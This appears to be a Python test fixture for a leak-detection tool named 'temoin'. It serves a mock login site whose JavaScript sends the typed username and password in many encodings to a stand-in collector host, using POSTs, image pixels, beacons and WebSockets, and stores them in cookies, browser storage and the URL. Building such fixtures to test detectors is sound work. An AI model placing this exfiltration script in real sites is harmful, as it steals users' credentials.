"""A site that gives away whatever is typed into its login form, in every way and shape that comes to mind."""

from __future__ import annotations

import base64
import html
import json
from urllib.parse import quote

from temoin.demo import exchange
from temoin.demo.exchange import Answer, Conversation, CookieLine, Request

HOST, COLLECTOR = "www.echoing.example", "collect.elsewhere.example"
URL = f"https://{HOST}/"

LOGIN = """<!doctype html><html lang=fr><title>Connexion</title><h1>Connexion</h1>
<div id=host></div><form id=form method=post action=/account><input name=user>
<input name=password type=password><button>Entrer</button></form>
<script src=/give.js></script><script>
form.addEventListener("submit", (event) => {
  event.preventDefault();
  give(form.user.value, form.password.value).then(() => form.submit());
});</script>"""
ALONE = "<!doctype html><html lang=fr><title>Bienvenue</title><h1>Bienvenue</h1><a href=/login>Connexion</a>"

GIVE = r"""
const bytes = (text) => new TextEncoder().encode(text);
const base64 = (text) => btoa(String.fromCharCode(...bytes(text)));
const post = (path, body, headers) => fetch(`https://COLLECTOR${path}`, {method: "POST", body, headers, mode: "cors"});
async function give(...secrets) {
  for (const secret of secrets) {
    const shapes = [secret, encodeURIComponent(secret), escape(secret), JSON.stringify(secret), base64(secret),
      base64("x" + secret), base64("xy" + secret), base64(JSON.stringify({secret})),
      JSON.stringify(JSON.stringify({secret})), secret.toLowerCase(), secret.toUpperCase(), secret.normalize("NFD"),
      [...secret].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`).join("")];
    for (const [index, shape] of shapes.entries()) {
      localStorage.setItem(`local${index}${shape.slice(0, 60)}`, shape);
      sessionStorage[`session${index}`] = JSON.stringify({shape});
      document.cookie = `c${index}=${encodeURIComponent(shape)}; max-age=1000`;
      new Image().src = `https://COLLECTOR/pixel?${index}=${encodeURIComponent(shape)}&path=/`;
      await post(`/path/${encodeURIComponent(shape)}`, shape);
      await post("/json", JSON.stringify({deep: [{shape}]}), {"Content-Type": "application/json"});
    }
    const form = new FormData();
    form.append("secret", secret);
    form.append("file", new File([bytes(`\0\xff${secret}`)], "file.bin"));
    await post("/multipart", form);
    await post("/form", new URLSearchParams({secret}));
    await post("/binary", new Uint8Array([0, 255, 254, ...bytes(secret), 0, 255]));
    await post("/long", "x".repeat(70000) + secret + "y".repeat(70000));
    await post("/edge", "x".repeat(65536 - 5) + secret);
    navigator.sendBeacon("https://COLLECTOR/beacon", secret);
    await new Promise((done) => {
      const socket = new WebSocket("wss://COLLECTOR/socket");
      socket.onopen = () => { socket.send(secret); socket.send(bytes(`\0${secret}`)); };
      let heard = 0;
      socket.onmessage = () => { heard += 1; if (heard === 2) { socket.close(); done(); } };
      socket.onerror = done;
    });
    await new Promise((done) => {
      const open = indexedDB.open(`db-${secret}`);
      open.onupgradeneeded = () => open.result.createObjectStore("store");
      open.onsuccess = () => {
        const change = open.result.transaction("store", "readwrite");
        change.objectStore("store").put({secret}, secret);
        change.oncomplete = done;
      };
    });
    const cache = await caches.open("cache");
    await cache.put(`/cached?${encodeURIComponent(secret)}`, new Response(secret));
    document.title = secret;
    console.error(secret);
    history.pushState(secret, secret, `?state=${encodeURIComponent(secret)}`);
    try { document.createElement(secret); } catch { /* such a name is none */ }
  }
}
""".replace("COLLECTOR", COLLECTOR)


def answer(request: Request) -> Answer:
    """The site itself."""
    if request.path == "/give.js":
        return exchange.script(GIVE)
    if request.path == "/login":
        return exchange.page(LOGIN)
    if request.path == "/account" and request.method == "POST":
        return _given_back(request.form)
    if request.path == "/account":
        return exchange.page(_account(request.query.get("user", "")))
    return exchange.page(ALONE)


def _account(user: str) -> str:
    shown, command = html.escape(user), json.dumps(["consent", "default", {"ad_storage": "denied", "note": user}])
    title = f"<!doctype html><html lang=fr><title>{shown}</title><h1>{shown}</h1><p id=member>Membre</p>"
    return f"{title}<script>dataLayer = [{command}];</script>"


def _given_back(form: dict[str, str]) -> Answer:
    user, password = form["user"], form["password"]
    cookie = CookieLine("basic", base64.b64encode(f"{user}:{password}".encode()).decode(), 1000, http_only=True)
    there = f"/account?user={quote(user)}&token={quote(json.dumps({'password': password}))}"
    echo = ("X-Echo", quote(password))
    return exchange.redirect(there, 303).with_cookies(str(cookie)).with_headers(echo)


def collect(request: Request) -> Answer:
    """The collector: answers with what it was sent."""
    if request.path == "/socket":
        return Answer(websocket=True, conversation=Conversation())
    given = request.body.decode("utf-8", "replace") if len(request.body) < 5000 else "long"
    echo = exchange.data({"you": given, "asked": request.target})
    allowed = ("Access-Control-Allow-Headers", "content-type")
    return echo.with_headers(("Access-Control-Allow-Origin", "*"), allowed)


HOSTS = {HOST: answer, COLLECTOR: collect}
